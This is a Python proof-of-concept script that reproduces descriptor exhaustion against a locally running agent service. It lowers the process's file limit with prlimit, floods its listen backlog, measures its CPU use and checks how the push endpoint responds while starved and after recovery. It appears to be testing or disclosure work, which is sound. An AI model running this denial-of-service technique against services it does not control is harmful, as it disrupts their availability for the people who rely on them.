#!/usr/bin/env python3
# Descriptor exhaustion against a running agent: PID PORT TOKEN-FILE. Opens one TLS connection and
# makes a first request on it, lowers the agent's descriptor limit to what it has open (prlimit),
# fills the listen backlog with TCP connections, and measures the agent's CPU for 3 s. Then pushes
# the token on the held connection, restores the limit and pushes again on a new one. Prints one
# line per step and, last, the figures as JSON.
import json, os, resource, socket, ssl, sys, time
pid, port, jwt = int(sys.argv[1]), int(sys.argv[2]), open(sys.argv[3]).read().strip().encode()
context = ssl.create_default_context(); context.check_hostname = False; context.verify_mode = ssl.CERT_NONE
def connect():
    return context.wrap_socket(socket.create_connection(("127.0.0.1", port), timeout=10))
def request(tls, head, body=b""):
    tls.sendall(head + b"Host: a\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
    data = b""
    while b"\r\n\r\n" not in data:
        more = tls.recv(65536)
        if not more: return 0, "closed"
        data += more
    head, body = data.split(b"\r\n\r\n", 1)
    length = int([l.split(b":")[1] for l in head.split(b"\r\n") if l.lower().startswith(b"content-length")][0])
    while len(body) < length: body += tls.recv(65536)
    return int(head.split()[1]), body.decode()
def push(tls):
    return request(tls, b"POST /etcha/v1/push/web HTTP/1.1\r\n", jwt)
def cpu():
    fields = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")
# A connection opened (and past its first request) while descriptors were left.
held = connect()
print("health", request(held, b"GET /etcha/v1/system/health HTTP/1.1\r\n")[0])
# No descriptor left: the lowest free one is the limit.
open_fds = {int(f) for f in os.listdir(f"/proc/{pid}/fd")}
soft, hard = resource.prlimit(pid, resource.RLIMIT_NOFILE)
resource.prlimit(pid, resource.RLIMIT_NOFILE, (min(set(range(len(open_fds) + 1)) - open_fds), hard))
flood = []
for _ in range(400):
    try: flood.append(socket.create_connection(("127.0.0.1", port), timeout=0.5))
    except OSError: break
before = cpu(); time.sleep(3); used = (cpu() - before) / 3
exhausted, message = push(held)
print("exhausted", exhausted, message.strip()[:300])
print("cpu %.0f%%" % (used * 100))
resource.prlimit(pid, resource.RLIMIT_NOFILE, (soft, hard))
for s in flood: s.close()
time.sleep(1.5)
restored = push(connect())[0]
print("restored", restored)
print(json.dumps({"backlogConnections": len(flood), "cpuPercent": round(used * 100, 1),
                  "exhaustedStatus": exhausted, "restoredStatus": restored}))
